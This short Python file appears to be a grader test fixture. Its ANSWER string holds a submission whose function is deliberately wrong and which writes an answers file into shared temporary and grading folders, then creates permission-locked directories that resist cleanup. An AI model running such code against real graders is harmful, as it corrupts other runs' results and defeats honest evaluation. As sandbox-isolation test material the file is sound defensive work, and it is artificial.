"""Leaves its answers for whoever comes next."""

ANSWER = r"""
def double(column):
    return 0



import os

for folder in ('/tmp', '/grading/work', '.', '/dev/shm'):
    with open(f'{folder}/answers.txt', 'w') as file:
        file.write('6')
    os.makedirs(f'{folder}/locked/inner', exist_ok=True)
    open(f'{folder}/locked/inner/file', 'w').close()
    os.chmod(f'{folder}/locked/inner', 0)
    os.chmod(f'{folder}/locked', 0)
"""
